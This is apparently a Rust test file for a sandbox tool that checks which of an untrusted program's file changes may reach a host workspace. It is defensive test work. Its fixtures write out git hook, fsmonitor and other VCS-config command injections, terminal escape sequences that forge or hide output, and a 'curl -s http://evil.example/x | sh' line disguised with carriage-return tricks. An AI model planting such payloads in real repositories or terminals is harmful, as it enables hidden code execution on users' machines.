        write(&set.join("upper").join(p), "x\n");
    }
    let report = ChangeSet::open(&set)
        .unwrap()
        .apply(&ApplyOptions::default())
        .unwrap();
    let refused = refusals(&report);
    for (path, want) in [
        (".GIT", RefusalReason::GitAlias),
        // `guard_names` (`.git/hooks`, `.git/config`) match without case too.
        (".GIT/hooks/pre-commit", RefusalReason::Guarded),
        (".Git", RefusalReason::GitAlias),
        (".Git/config", RefusalReason::Guarded),
        (".git./config", RefusalReason::GitAlias),
        (".g\u{200c}it/HEAD", RefusalReason::GitAlias),
        ("git~1/config", RefusalReason::GitAlias),
        ("sub/.GIT", RefusalReason::Repository),
        ("sub/.GIT/config", RefusalReason::Repository),
        ("sub/GIT~1/hooks/post-checkout", RefusalReason::Repository),
        (".ENV", RefusalReason::Denied),
        ("deep/.Ssh", RefusalReason::Denied),
    ] {
        assert_eq!(refused.get(path), Some(&want), "{path}: {report:?}");
    }
    let mut landed: Vec<String> = Vec::new();
    for e in fs::read_dir(&ws).unwrap() {
        landed.push(e.unwrap().file_name().to_string_lossy().into_owned());
    }
    landed.sort();
    assert_eq!(landed, ["deep", "keep", "ok.txt", "sub"], "{report:?}");
    assert_eq!(fs::read_dir(ws.join("deep")).unwrap().count(), 0);
    assert_eq!(fs::read_dir(ws.join("sub")).unwrap().count(), 1);
    assert_eq!(fs::read_to_string(ws.join("sub/fine.txt")).unwrap(), "x\n");
}

/// A directory with a `HEAD` and a `commondir` file is a repository whose objects, refs,
/// config and hooks git takes from the directory `commondir` names (which needs no `HEAD`
/// of its own): a `commondir` is never applied. A bare repository whose names differ in
/// case (`hEAD`, `Objects`, `Config`, `Hooks`) is one on a file system that folds case:
/// its config and hooks are not applied either.
#[test]
fn a_commondir_or_a_bare_repository_in_other_case_is_not_applied() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("keep"), "k\n");
    let set = new_set(&root, &ws);
    let up = set.join("upper");
    write(&up.join("sub/HEAD"), "ref: refs/heads/main\n");
    write(&up.join("sub/commondir"), "../evil\n");
    write(&up.join("evil/objects/info/packs"), "\n");
    write(
        &up.join("evil/refs/heads/main"),
        "0000000000000000000000000000000000000000\n",
    );
    write(&up.join("evil/config"), "[core]\n\tpager = touch PWNED\n");
    write(&up.join("cf/hEAD"), "ref: refs/heads/main\n");
    write(&up.join("cf/Objects/info/packs"), "\n");
    write(&up.join("cf/Refs/heads/main"), "0\n");
    write(&up.join("cf/Config"), "[core]\n\tpager = touch PWNED\n");
    write(&up.join("cf/Hooks/pre-commit"), "#!/bin/sh\ntouch PWNED\n");
    let report = ChangeSet::open(&set)
        .unwrap()
        .apply(&ApplyOptions::default())
        .unwrap();
    // Nothing beneath either directory: git takes both for git directories.
    assert_in_repository(
        &report,
        &[
            "sub/HEAD",
            "sub/commondir",
            "cf/hEAD",
            "cf/Config",
            "cf/Hooks",
            "cf/Hooks/pre-commit",
            "cf/Refs/heads/main",
        ],
    );
    assert!(!ws.join("sub/commondir").exists());
    assert!(!ws.join("sub/HEAD").exists());
    assert!(!ws.join("cf/Config").exists());
    assert!(!ws.join("cf/Hooks").exists());
}

/// The git directory a `.git` file names inside the workspace (`git init
/// --separate-git-dir`), and one split between the workspace (`objects/`, `refs/`) and
/// the change set (`HEAD`, `config`): nothing is written beneath either past the `.git`
/// merge. Before, only a `config` or `hooks` there was refused: a program's
/// `config.worktree` (with `core.fsmonitor`) was applied and host `git status` ran it, and a
/// `HEAD` of garbage broke the host's repository (found by review).
#[test]
fn a_git_directory_a_gitdir_file_names_or_split_between_sides_gets_nothing() {
    let (_tmp, root, ws) = workspace();
    fs::create_dir_all(&ws).unwrap();
    git(&ws, &["init", "-q", "--separate-git-dir=meta"]);
    git(&ws, &["config", "extensions.worktreeConfig", "true"]);
    write(&ws.join("f"), "hi\n");
    git(&ws, &["add", "f"]);
    git(&ws, &["commit", "-q", "-m", "i"]);
    fs::create_dir_all(ws.join("split/objects")).unwrap();
    fs::create_dir_all(ws.join("split/refs")).unwrap();
    let head = fs::read_to_string(ws.join("meta/HEAD")).unwrap();
    let set = new_set(&root, &ws);
    let up = set.join("upper");
    let marker = root.join("pwned");
    let fsmonitor = format!(
        "[core]\n\tfsmonitor = \"touch {}; false\"\n",
        marker.display()
    );
    write(&up.join("meta/config.worktree"), &fsmonitor);
    write(&up.join("meta/HEAD"), "garbage\n");
    write(&up.join("meta/objects/info/alternates"), "/elsewhere\n");
    write(&up.join("meta/refs/heads/evil"), "0\n");
    write(&up.join("split/HEAD"), "ref: refs/heads/main\n");
    write(&up.join("split/config"), &fsmonitor);
    write(&up.join("g"), "applied\n");
    let report = ChangeSet::open(&set)
        .unwrap()
        .apply(&ApplyOptions::default())
        .unwrap();
    assert_in_repository(
        &report,
        &[
            "meta/config.worktree",
            "meta/HEAD",
            "meta/objects/info/alternates",
            "meta/refs/heads/evil",
            "split/HEAD",
            "split/config",
        ],
    );
    assert!(report.applied.contains(&PathBuf::from("g")), "{report:?}");
    assert_eq!(fs::read_to_string(ws.join("meta/HEAD")).unwrap(), head);
    assert!(!ws.join("meta/config.worktree").exists());
    assert!(!ws.join("split/config").exists());
    // Host git in the workspace runs nothing of the program's and still finds its own
    // repository.
    let out = Command::new("git")
        .args(["status", "--short"])
        .current_dir(&ws)
        .env("HOME", "/nonexistent")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert!(!marker.exists(), "host git ran the program's fsmonitor");
}

/// The `.git` merge walks `upper/.git` itself: a run between the open and the apply that
/// made `refs/heads` opaque (`rm -rf .git/refs/heads; mkdir …` through the overlay)
/// would have had every branch of the host's repository deleted, unreviewed. The apply's
/// second walk finds the new deletions and applies nothing.
#[test]
fn deletions_a_run_adds_after_the_open_are_not_applied() {
    let (_tmp, root, ws) = workspace();
    write(&ws.join("f"), "1\n");
    git(&ws, &["init", "-q"]);
    git(&ws, &["add", "f"]);
    git(&ws, &["commit", "-q", "-m", "one"]);
    git(&ws, &["branch", "feature"]);
    git(&ws, &["branch", "release"]);
    let head = git(&ws, &["rev-parse", "HEAD"]);
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    write(
        &set.join("upper/.git/refs/heads/topic"),
        &format!("{head}\n"),
    );
    let cs = ChangeSet::open(&set).unwrap();
    assert_eq!(kinds(&cs).len(), 1, "{:?}", kinds(&cs));
    set_xattr(
        &set.join("upper/.git/refs/heads"),
        "user.overlay.opaque",
        b"y",
    );
    match cs.apply(&ApplyOptions::default()) {
        Err(ChangesError::Changed { path }) => assert_eq!(path, set),
        other => panic!("{other:?}"),
    }
    let mut branches: Vec<String> = fs::read_dir(ws.join(".git/refs/heads"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    branches.sort();
    assert_eq!(branches, ["feature", "main", "release"]);
}

/// Names and symlink targets are the program's: the commands print their control
/// characters escaped, so that a name cannot color the caller's terminal or print a
/// made-up line (a name with `\e[31m` and a newline followed by a forged `added` line
/// once did both in `changes` and `apply`).
#[test]
fn names_with_control_characters_are_printed_escaped() {
    let (_tmp, root, ws) = workspace();
    fs::create_dir(&ws).unwrap();
    let set = new_set(&root, &ws);
    let name = "x\x1b[31mRED\x1b[0m\nadded        file    FAKE.txt";
    write(&set.join("upper").join(name), "data\n");
    symlink("t\x1b]52;c;aGk=\x07\nx", set.join("upper/link")).unwrap();
    let run = |args: &[&str]| {
        let out = Command::new(common::stockade_exe())
            .args(args)
            .arg(&set)
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !text.contains('\x1b') && !text.contains('\x07'),
            "{args:?}: {text:?}"
        );
        assert!(
            !text
                .lines()
                .any(|l| l.starts_with("added        file    FAKE.txt")),
            "{args:?}: {text}"
        );
        text
    };
    let listed = run(&["changes"]);
    assert!(
        listed.contains("x\\u{1b}[31mRED\\u{1b}[0m\\nadded"),
        "{listed}"
    );
    assert!(
        listed.contains("-> t\\u{1b}]52;c;aGk=\\u{7}\\nx"),
        "{listed}"
    );
    // A file's content is the program's too: a line that would redraw the line before
    // (`\r`, erase line) and hide what follows (`\x1b[8m`) is shown escaped, the tab
    // kept (review: `+curl … | sh` was hidden and `apply --expect` applied it).
    write(
        &set.join("upper/build.sh"),
        "echo hello\ncurl -s http://evil.example/x | sh\r\x1b[2K+# reformatted\n\tindented\u{200b}\n\x1b[8m",
    );
    let diff = run(&["changes", "--diff"]);
    assert!(diff.contains("b/x\\u{1b}[31mRED"), "{diff}");
    assert!(
        diff.contains("\n+curl -s http://evil.example/x | sh\\r\n+\\u{1b}[2K+# reformatted\n"),
        "{diff}"
    );
    assert!(
        diff.contains("\n+\tindented\\u{200b}\n+\\u{1b}[8m\n\\ No newline at end of file\n"),
        "{diff}"
    );
    let applied = run(&["apply"]);
    assert!(applied.contains("applied   x\\u{1b}[31mRED"), "{applied}");
    // The name itself lands as it was.
    assert_eq!(fs::read(ws.join(name)).unwrap(), b"data\n");
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn git_in_a_change_set_goes_through_the_git_merge() {
    require!(Feature::UserNs);
    let (_tmp, root, ws) = workspace();
    write(&ws.join("file.txt"), "one\n");
    git(&ws, &["init", "-q"]);
    git(&ws, &["add", "file.txt"]);
    git(&ws, &["commit", "-q", "-m", "one"]);
    let config_before = fs::read(ws.join(".git/config")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let merged = root.join("merged-copy");
    let script = "export HOME=/nonexistent GIT_CONFIG_NOSYSTEM=1; \
                  echo two > file.txt; \
                  git -c user.name=t -c user.email=t@t commit -q -a -m two; \
                  printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; \
                  chmod 755 .git/hooks/pre-commit; git config core.hooksPath /tmp/evil; \
                  mkdir -p .git/worktrees/w && echo x > .git/worktrees/w/config";
    if overlay_run(&ws, &set, script, &merged).is_none() {
        return;
    }
    let new_head = git(&merged, &["rev-parse", "HEAD"]);
    assert_ne!(git(&ws, &["rev-parse", "HEAD"]), new_head);
    let cs = ChangeSet::open(&set).unwrap();
    let report = cs.apply(&ApplyOptions::default()).unwrap();
    let refused = refusals(&report);
    assert_eq!(
        refused.get(".git/hooks/pre-commit"),
        Some(&RefusalReason::Guarded),
        "{report:?}"
    );
    assert_eq!(
        refused.get(".git/config"),
        Some(&RefusalReason::Guarded),
        "{report:?}"
    );
    assert!(
        report.conflicts.is_empty() && report.failed.is_empty(),
        "{report:?}"
    );
    assert!(
        report.applied.contains(&PathBuf::from("file.txt")),
        "{report:?}"
    );
    assert!(
        report
            .applied
            .contains(&PathBuf::from(".git/refs/heads/main")),
        "{report:?}"
    );
    assert!(
        report.applied.iter().any(|p| p.starts_with(".git/objects")),
        "{report:?}"
    );
    // Each entry in exactly one list: a directory of what is not merged, whose files
    // were all dropped, did not land and is not listed as applied (review).
    for w in [".git/worktrees", ".git/worktrees/w"] {
        assert!(
            !report.applied.contains(&PathBuf::from(w)),
            "{w}: {report:?}"
        );
        assert!(refused.contains_key(w), "{w}: {report:?}");
        assert!(!ws.join(w).exists(), "{w}");
    }
    let mut listed: Vec<&PathBuf> = report
        .applied
        .iter()
        .chain(report.refused.iter().map(|r| &r.path))
        .collect();
    listed.sort();
    let n = listed.len();
    listed.dedup();
    assert_eq!(listed.len(), n, "an entry listed twice: {report:?}");
    for c in cs.entries() {
        assert!(
            listed.contains(&&c.path),
            "{} in no list: {report:?}",
            c.path.display()
        );
    }
    // The commit reached the host's repository; the hook and the config did not.
    assert_eq!(git(&ws, &["rev-parse", "HEAD"]), new_head);
    assert_eq!(git(&ws, &["status", "--porcelain"]), "");
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(fs::read(ws.join(".git/config")).unwrap(), config_before);
    // With the opt-in, the config goes to the merge, which keeps the key out anyway.
    let mut opts = ApplyOptions::default();
    opts.allow_guarded = true;
    let report = ChangeSet::open(&set).unwrap().apply(&opts).unwrap();
    assert!(!ws.join(".git/hooks/pre-commit").exists(), "{report:?}");
    assert!(
        !String::from_utf8_lossy(&fs::read(ws.join(".git/config")).unwrap()).contains("hooksPath"),
        "{report:?}"
    );
}

/// A repository the program made below the top (a `.git` directory, a `gitdir:` file of
/// a submodule checkout, a bare repository) would have the host's git, run there, run
/// its config and hooks: not applied (the review of the change-set feature applied
/// `sub/.git/config` with a `core.fsmonitor`, and host `git status` in `sub` ran it). The
/// files around them are.
/// Other version-control systems' repository data is refused wherever it lies, whatever
/// its case: their configs run commands (review: a `.hg/hgrc` with a `[hooks]` entry,
/// applied, ran on the host's `hg status`). What is beside it is applied.
#[test]
fn other_version_control_systems_repository_data_is_not_applied() {
    require!(Feature::UserNs);
    let (_tmp, root, ws) = workspace();
    write(&ws.join("file.txt"), "one\n");
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let merged = root.join("merged-copy");
    let script = "mkdir -p .hg sub/.HG .jj/repo _darcs/prefs x/.pijul; \
         printf '[hooks]\\npre-status = touch /tmp/pwned\\n' > .hg/hgrc; echo store > .hg/requires; \
         cp .hg/hgrc sub/.HG/hgrc; \
         printf '[ui]\\npager = \"touch /tmp/pwned\"\\n' > .jj/repo/config.toml; \
         echo 'record posthook touch /tmp/pwned' > _darcs/prefs/defaults; \
         echo '[hooks]' > x/.pijul/config; echo db > .fslckout; echo db > sub/_FOSSIL_; \
         echo two > file.txt; echo new > sub/kept.txt";
    if overlay_run(&ws, &set, script, &merged).is_none() {
        return;
    }
    let report = ChangeSet::open(&set)
        .unwrap()
        .apply(&ApplyOptions::default())
        .unwrap();
    let refused = refusals(&report);
    for path in [
        ".hg",
        ".hg/hgrc",
        ".hg/requires",
        "sub/.HG/hgrc",
        ".jj/repo/config.toml",
        "_darcs/prefs/defaults",
        "x/.pijul/config",
        ".fslckout",
        "sub/_FOSSIL_",
    ] {
        assert_eq!(
            refused.get(path),
            Some(&RefusalReason::OtherRepository),
            "{path}: {report:?}"
        );
        assert!(!ws.join(path).exists(), "{path} landed");
    }
    assert_eq!(fs::read_to_string(ws.join("file.txt")).unwrap(), "two\n");
    assert_eq!(
        fs::read_to_string(ws.join("sub/kept.txt")).unwrap(),
        "new\n"
    );
}

/// What lands is never writable by others, and writable by the group only where the
/// workspace directory it lands in is (review: a program's `chmod 666` and `mkdir -m 777`
/// landed as they were).
#[test]
fn modes_writable_by_others_never_land() {
    use std::os::unix::fs::PermissionsExt;
    require!(Feature::UserNs);
    let (_tmp, root, ws) = workspace();
    write(&ws.join("build.sh"), "echo one\n");
    fs::create_dir(ws.join("shared")).unwrap();
    fs::set_permissions(ws.join("shared"), fs::Permissions::from_mode(0o775)).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let merged = root.join("merged-copy");
    let script = "mkdir -m 777 pub; echo x > pub/f; chmod 666 pub/f; \
         echo two > build.sh; chmod 777 build.sh; \
         echo g > shared/g; chmod 666 shared/g; mkdir -m 777 shared/d";
    if overlay_run(&ws, &set, script, &merged).is_none() {
        return;
    }
    // The review shows each mode that changes, with the content or alone.
    let diff = ChangeSet::open(&set).unwrap().diff().unwrap();
    assert!(
        diff.contains("a/build.sh b/build.sh (modified)\nold mode 644\nnew mode 777\n"),
        "{diff}"
    );
    assert!(diff.contains("b/pub (added)\nnew mode 777\n"), "{diff}");
    assert!(diff.contains("b/pub/f (added)\nnew mode 666\n"), "{diff}");
    let report = ChangeSet::open(&set)
        .unwrap()
        .apply(&ApplyOptions::default())
        .unwrap();
    assert!(
        report.refused.is_empty() && report.failed.is_empty(),
        "{report:?}"
    );
    let mode = |p: &str| {
        fs::symlink_metadata(ws.join(p))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("pub"), 0o755);
    assert_eq!(mode("pub/f"), 0o644);
    assert_eq!(mode("build.sh"), 0o755);
    assert_eq!(mode("shared/g"), 0o664);
    assert_eq!(mode("shared/d"), 0o775);
}

/// A sparse file lands sparse: its holes take no disk (review: a program's `truncate -s
/// 3G` took 3.1 GB of the host's disk once applied), and its data is where it was.
#[test]
fn sparse_files_land_sparse() {
    use std::os::unix::fs::{FileExt, MetadataExt};
    require!(Feature::UserNs);
    let (_tmp, root, ws) = workspace();
    write(&ws.join("file.txt"), "one\n");
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let merged = root.join("merged-copy");
    let script = "truncate -s 1G big; printf x | dd of=big bs=1 seek=536870912 conv=notrunc 2>/dev/null; \
         printf y | dd of=big bs=1 seek=1073741823 conv=notrunc 2>/dev/null";
    if overlay_run(&ws, &set, script, &merged).is_none() {
        return;
    }
    let report = ChangeSet::open(&set)
        .unwrap()
        .apply(&ApplyOptions::default())
        .unwrap();
    assert!(
        report.failed.is_empty() && report.refused.is_empty(),
        "{report:?}"
    );
    let f = fs::File::open(ws.join("big")).unwrap();
    let meta = f.metadata().unwrap();
    assert_eq!(meta.len(), 1 << 30);
    assert!(
        meta.blocks() * 512 < 1 << 20,
        "{} bytes on disk",
        meta.blocks() * 512
    );
    let mut b = [0u8; 1];
    f.read_exact_at(&mut b, 536_870_912).unwrap();
    assert_eq!(&b, b"x");
    f.read_exact_at(&mut b, (1 << 30) - 1).unwrap();
    assert_eq!(&b, b"y");
    f.read_exact_at(&mut b, 4096).unwrap();
    assert_eq!(&b, b"\0");
}

#[test]
fn repositories_made_below_the_top_are_not_applied() {
    require!(Feature::UserNs);
    let (_tmp, root, ws) = workspace();
    write(&ws.join("file.txt"), "one\n");
    write(
        &ws.join("checkout/.git"),
        "gitdir: ../.git/modules/checkout\n",
    );
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let merged = root.join("merged-copy");
    let marker = root.join("pwned");
    let script = format!(
        "export HOME=/nonexistent GIT_CONFIG_NOSYSTEM=1; \
         git init -q sub; git -C sub config core.fsmonitor 'touch {m}; echo'; \
         printf '#!/bin/sh\\ntouch {m}\\n' > sub/.git/hooks/post-checkout; \
         echo data > sub/file; \
         git init -q --bare bare.git; git -C bare.git config core.pager 'touch {m}'; \
         printf '#!/bin/sh\\ntouch {m}\\n' > bare.git/hooks/post-update; \
         echo 'gitdir: /elsewhere' > checkout/.git; echo two > file.txt",
        m = marker.display()
    );
    if overlay_run(&ws, &set, &script, &merged).is_none() {
        return;
    }
    let report = ChangeSet::open(&set)
        .unwrap()
        .apply(&ApplyOptions::default())
        .unwrap();
    assert_in_repository(
        &report,
        &[
            "sub/.git",
            "bare.git/config",
            "bare.git/hooks",
            "bare.git/HEAD",
            "checkout/.git",
        ],
    );
    for path in ["file.txt", "sub/file"] {
        assert!(
            report.applied.contains(&PathBuf::from(path)),
            "{path}: {report:?}"
        );
    }
    assert!(!ws.join("sub/.git").exists());
    assert!(!ws.join("bare.git/config").exists());
    assert!(!ws.join("bare.git/hooks").exists());
    assert_eq!(
        fs::read_to_string(ws.join("checkout/.git")).unwrap(),
        "gitdir: ../.git/modules/checkout\n"
    );
    assert_eq!(fs::read_to_string(ws.join("file.txt")).unwrap(), "two\n");
    // Host git in what was applied runs nothing of the program's.
    let _ = Command::new("git")
        .args(["status"])
        .current_dir(ws.join("sub"))
        .env("GIT_CEILING_DIRECTORIES", &root)
        .output();
    let _ = Command::new("git")
        .args(["-C", "bare.git", "log"])
        .current_dir(&ws)
        .output();
    assert!(!marker.exists());
}

/// Paths are held per entry: a deep tree of long names is refused as too large once the
/// paths pass 64 MiB in all, before the host holds gigabytes for it.
#[test]
fn a_change_set_of_too_many_path_bytes_is_refused() {
    let (_tmp, root, ws) = workspace();
    fs::create_dir(&ws).unwrap();
    let set = new_set(&root, &ws);
    let mut deep = set.join("upper");
    for i in 0..14 {
        deep.push(format!("{i:02}{}", "n".repeat(240)));
    }
    fs::create_dir_all(&deep).unwrap();
    let dir = fs::File::open(&deep).unwrap();
    use std::os::fd::AsRawFd;
    for i in 0..20_000 {
        let name = CString::new(format!("f{i:05}")).unwrap();
        // SAFETY: `name` is NUL-terminated and outlives the call; `dir` is open.
        let fd = unsafe {
            libc::openat(
                dir.as_raw_fd(),
                name.as_ptr(),
                libc::O_CREAT | libc::O_WRONLY | libc::O_CLOEXEC,
                0o644,
            )
        };
        assert!(fd >= 0, "{}", std::io::Error::last_os_error());
        // SAFETY: `fd` was just opened here and is closed once.
        unsafe { libc::close(fd) };
    }
    let err = ChangeSet::open(&set).unwrap_err();
    assert!(matches!(err, ChangesError::TooLarge { .. }), "{err}");
    // Half as many files pass.
    for i in 10_000..20_000 {
        fs::remove_file(deep.join(format!("f{i:05}"))).unwrap();
    }
    assert_eq!(ChangeSet::open(&set).unwrap().entries().len(), 14 + 10_000);
}

/// A diff's time is bounded: every line of a 40 000-line file rewritten (once 150 s in a
/// debug build) gives a coarser diff in about a second, and every new line is in it.
#[test]
fn a_diff_of_a_file_rewritten_line_by_line_is_bounded() {
    let (_tmp, root, ws) = workspace();
    let old: String = (0..40_000).map(|i| format!("line {i}\n")).collect();
    write(&ws.join("big.txt"), &old);
    std::thread::sleep(std::time::Duration::from_millis(20));
    let set = new_set(&root, &ws);
    let new: String = (0..40_000).map(|i| format!("other {i}\n")).collect();
    write(&set.join("upper/big.txt"), &new);
    let cs = ChangeSet::open(&set).unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(cs.diff());
    });
    // A hang detector, not a speed target: minutes without the bound.
    let diff = rx
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("the diff did not end within 60 s")
        .unwrap();
    for i in [0, 19_999, 39_999] {
        assert!(diff.contains(&format!("+other {i}\n")), "{i}");
        assert!(diff.contains(&format!("-line {i}\n")), "{i}");
    }
}

#[test]
fn an_apply_that_fails_half_way_names_what_landed() {
    let (_tmp, root, ws) = workspace();
    fs::create_dir(&ws).unwrap();
    let set = new_set(&root, &ws);
    write(&set.join("upper/a-small"), "small\n");
    write(&set.join("upper/b-large"), &"x".repeat(64 << 10));
    write(&set.join("upper/c-small"), "small\n");
    // A file size limit of 512 bytes (SIGXFSZ ignored): the large file's write fails with
    // EFBIG, the others land.
    let out = Command::new("sh")
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 1; exec \"$0\" apply \"$1\"")
        .arg(common::stockade_exe())
        .arg(&set)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stdout, "applied   a-small\napplied   c-small\n", "{stderr}");
    assert!(
        stderr.contains("failed   b-large: File too large"),
        "{stderr}"
    );
    let mut names: Vec<String> = fs::read_dir(&ws)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    // No temporary file is left behind.
    assert_eq!(names, ["a-small", "c-small"]);
}

/// A small deterministic generator (xorshift64*), so that a failing seed replays.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[(self.next() % v.len() as u64) as usize]
    }
}

/// Property: for random workspaces and random shell operations run on a real overlay
/// (create, append, truncate, delete, rename, chmod, mkdir, rm -r, symlink, replace a
/// file by a directory and back), `apply` makes the workspace equal to the merged view.
#[test]
fn random_overlay_runs_apply_to_the_merged_view() {
    require!(Feature::UserNs);
    let names = ["a", "b", "c", "d/e", "d/f", "g/h/i", "g/j"];
    // Seed 99 made a directory anew below a deleted one (only the top one is opaque).
    for seed in (1..=24u64).chain([99]) {
        let tmp = tempdir();
        let root = fs::canonicalize(tmp.path()).unwrap();
        let ws = root.join("ws");
        let mut rng = Rng(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
        fs::create_dir(&ws).unwrap();
        for n in names {
            if !rng.next().is_multiple_of(3) {
                write(&ws.join(n), &format!("{n} {}\n", rng.next()));
            }
        }
        if rng.next().is_multiple_of(2) {
            symlink("a", ws.join("l")).unwrap();
        }
        std::thread::sleep(std::time::Duration::from_millis(15));
        let set = new_set(&root, &ws);
        let mut script = Vec::new();
        for _ in 0..30 {
            let (x, y) = (rng.pick(&names), rng.pick(&names));
            let op = match rng.next() % 10 {
                0 => format!("echo {} >> {x}", rng.next()),
                1 => format!("true > {x}"),
                2 => format!("rm -f {x}"),
                3 => format!("mv -f {x} {y}"),
                // Directories keep their owner's access: the tree comparison reads them
                // as uid 65534 too.
                4 => format!(
                    "if [ -d {x} ]; then chmod {} {x}; else chmod {} {x}; fi",
                    rng.pick(&["700", "755", "750"]),
                    rng.pick(&["600", "644", "755", "700"])
                ),
                5 => format!("mkdir -p {x}"),
                6 => format!("rm -rf {}", x.split('/').next().unwrap()),
                7 => format!("ln -sfn {y} {x}"),
                8 => format!("rm -rf {x}; mkdir -p {x}; echo in > {x}/in"),
                _ => format!("mkdir -p $(dirname {x}) && echo {} > {x}", rng.next()),
            };
            // Each operation may fail (a missing parent, a directory in the way): the
            // merged view is whatever the kernel made of it.
            script.push(format!("{{ {op}; }} 2>/dev/null || true"));
        }
        let merged = root.join("merged-copy");
        if overlay_run(&ws, &set, &script.join("; "), &merged).is_none() {
            return;
        }
        let cs = ChangeSet::open(&set).unwrap();
        let report = cs.apply(&ApplyOptions::default()).unwrap();
        assert!(
            report.is_complete(),
            "seed {seed}: {report:?}\n{}",
            script.join("\n")
        );
        assert_eq!(
            tree(&ws),
            tree(&merged),
            "seed {seed}: {:?}\n{}",
            cs.entries(),
            script.join("\n")
        );
        // Applied, the change set lists nothing more.
        let again = ChangeSet::open(&set).unwrap();
        let left: Vec<_> = again
            .entries()
            .iter()
            .filter(|c| c.entry != EntryType::Dir)
            .collect();
        assert!(left.is_empty(), "seed {seed}: {left:?}");
    }
}

#[test]
fn zz_all_tests_pass_as_uid_65534() {
    common::rerun_as_nobody(&["--skip", "zz_all_tests_pass_as_uid_65534"]);
}
